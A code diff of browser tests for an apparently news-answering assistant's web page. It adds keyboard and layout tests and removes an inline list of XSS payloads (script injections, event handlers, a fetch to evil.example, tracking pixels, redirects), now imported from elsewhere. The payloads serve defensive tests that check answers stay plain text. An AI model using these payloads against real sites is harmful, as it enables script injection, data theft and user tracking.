@@ -4,13 +4,15 @@ from __future__ import annotations
 
 import re
 from collections.abc import Callable
+from dataclasses import replace
 from datetime import date
 from pathlib import Path
 from urllib.parse import quote
 
 import pytest
-from browser import BLINKEN, WAIT, Open, Told, ask, sound, told
-from playwright.sync_api import Page, expect
+from browser import BLINKEN, WAIT, Open, Told, ask, sound, tab_to, told
+from hostile import ATTACKS, undirected, unharmed
+from playwright.sync_api import expect
 
 from assistant.chain import Assistant
 from assistant.settings import Settings
@@ -225,6 +227,34 @@ def test_a_filter_chosen_is_shown_applied_and_kept_in_the_address(visit: Open, c
     assert "as_of" not in page.url
 
 
+def test_filters_and_suggestions_by_keyboard_alone(visit: Open, chat: str) -> None:
+    page = visit(chat)
+    page.locator("#examples [data-ask]").first.wait_for(timeout=WAIT)
+    page.locator("body").focus()
+    tab_to(page, page.locator("[data-menu=outlets] summary"))
+    page.keyboard.press("Enter")
+    tab_to(page, page.get_by_label("The Castrin Herald"))
+    page.keyboard.press("Space")
+    page.keyboard.press("Escape")
+    expect(page.locator("[data-menu=outlets] summary")).to_be_focused()
+    assert "sources=The+Castrin+Herald" in page.url
+    page.keyboard.press("Enter")
+    tab_to(page, page.locator("[data-clear=outlets]"))
+    page.keyboard.press("Enter")
+    assert "sources" not in page.url
+    tab_to(page, page.locator("#examples [data-ask]").first)
+    page.keyboard.press("Enter")
+    page.locator(".turn[data-status=answered]").wait_for(timeout=WAIT)
+    tab_to(page, page.locator("#question textarea"))
+    page.keyboard.type(BLINKEN)
+    page.keyboard.press("Enter")
+    follow_up = page.locator(".turn:nth-child(2) .follow [data-ask]").first
+    follow_up.wait_for(timeout=WAIT)
+    tab_to(page, follow_up)
+    page.keyboard.press("Enter")
+    page.locator(".turn:nth-child(3)[data-status=answered]").wait_for(timeout=WAIT)
+
+
 # --- while an answer arrives -----------------------------------------------------------------------------------
 
 
@@ -294,92 +324,6 @@ def test_a_failure_nobody_foresaw_shows_no_trace(visit: Open, serving: Callable[
 
 
 # --- safety of display --------------------------------------------------------------------------------------------
-
-HIT = "window.hits=(window.hits||0)+1"
-ATTACKS = [
-    *(
-        frame.format(code)
-        for code in (
-            HIT,
-            f"fetch(`https://evil.example/?`+({HIT}))",
-            "document.location=`https://evil.example/`",
-        )
-        for frame in (
-            "<script>{}</script>",
-            "</script><script>{}</script>",
-            "<img src=x onerror='{}'>",
-            '<img src=x onerror="{}">',
-            "<svg onload='{}'>",
-            "<svg><script>{}</script></svg>",
-            "<body onload='{}'>",
-            "<details open ontoggle='{}'>x</details>",
-            "<input autofocus onfocus='{}'>",
-            "<a href='javascript:{}'>read</a>",
-            "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
-            "<iframe src='javascript:{}'></iframe>",
-            "\" onmouseover='{}' x=\"",
-            "' onfocus='{}' autofocus x='",
-            "</p></blockquote></li><script>{}</script>",
-            "<math><mtext><style><img src=x onerror='{}'></style></mtext></math>",
-            "javascript:{}",
-            "{{{{constructor.constructor('{}')()}}}}",
-            "${{{}}}",
-            "`;{};`",
-            "<marquee onstart='{}'>x</marquee>",
-            "<video><source onerror='{}'></video>",
-            "[read](javascript:{})",
-        )
-    ),
-    "![photo](https://evil.example/pixel.png)",
-    "[![photo](https://evil.example/pixel.png)](https://evil.example)",
-    "<img src=https://evil.example/pixel.png>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<base href=https://evil.example/>",
-    "<form action=https://evil.example><button>Read</button></form>",
-    "<object data=https://evil.example></object>",
-    "<embed src=https://evil.example>",
-    "<!-- <script>" + HIT + "</script> -->",
-    "<b>unclosed <i>markup <table><td>",
-    "data:text/html,<script>" + HIT + "</script>",
-    "\u202egnp.elif‮ \u2066isolated\u2067 never closed",
-    "&lt;script&gt;" + HIT + "&lt;/script&gt;",
-    "<ScRiPt\n>" + HIT + "</sCrIpT>",
-    "\x00<scr\x00ipt>" + HIT + "</script>",
-]
-
-
-def undirected(text: str) -> str:
-    """Text with single spaces and without what changes its direction."""
-    return " ".join(re.sub("[\u202a-\u202e\u2066-\u2069]", "", text).split())
-
-
-def unharmed(page: Page) -> None:
-    """No script of an article's ran, nothing of its markup became an element, no link leads elsewhere."""
-    assert page.evaluate("window.hits") is None
-    assert page.evaluate("document.location.hostname") == "127.0.0.1"
-    inside = "#thread, #articles, #masthead, #examples, #notice, #reader"
-    assert (
-        page.locator(inside)
-        .locator(
-            "img, iframe, svg:not(.chart svg), style, link, object, embed, form:not(.verdict form, .add-form), video"
-        )
-        .count()
-        == 0
-    )
-    assert (
-        page.locator(inside).locator("a[href*='evil'], a[href^='javascript' i], a[href^='data' i]").count()
-        == 0
-    )
-    assert (
-        page.evaluate(
-            "roots => roots.split(', ').flatMap(root => [...document.querySelectorAll(`${root} *`)])"
-            ".filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length",
-            inside,
-        )
-        == 0
-    )
 
 
 def test_attacks_in_an_answer_stay_text_in_every_panel(visit: Open, serving: Callable[..., str]) -> None:
@@ -537,4 +481,32 @@ def test_every_state_fits_its_window_and_passes_axe(
     page.keyboard.press("Escape")
     page.locator("[data-view=articles]").click()
     page.locator(".list tbody tr").first.wait_for()
+    sound(page)
+
+
+@pytest.mark.parametrize(
+    ("width", "scheme"), [(360, "light"), (360, "dark"), (1280, "light"), (1280, "dark")]
+)
+def test_what_opens_beside_an_answer_fits_its_window_and_passes_axe(
+    visit: Open, serving: Callable[..., str], width: int, scheme: str
+) -> None:
+    answer = told(["One thing was said.", "Another was said."], notes=("One sentence was left out.",))
+    corrected = [
+        replace(one, passage=replace(one.passage, corrected=date(2026, 7, 4))) for one in answer.retrieved
+    ]
+    checks = (Check("A third thing.", passed=False, reason="No quote says so."), Check("One.", True, ""))
+    answer = replace(answer, retrieved=tuple(corrected), checks=checks)
+    page = visit(serving(Told([answer, RuntimeError()])), width=width, scheme=scheme)
+    ask(page, "Who?")
+    expect(page.locator(".card").first).to_contain_text("Corrected on")
+    page.locator(".said details summary").click()
+    sound(page)
+    for menu in ("outlets", "dates", "as_of"):
+        page.locator(f"[data-menu={menu}] summary").click()
+        expect(page.locator(f"[data-menu={menu}] .pane")).to_be_in_viewport(ratio=1)
+        sound(page)
+        page.keyboard.press("Escape")
+    page.locator("#question textarea").fill("And then?")
+    page.keyboard.press("Enter")
+    expect(page.locator("#notice [role=alert]")).to_have_text(texts.TROUBLE)
     sound(page)
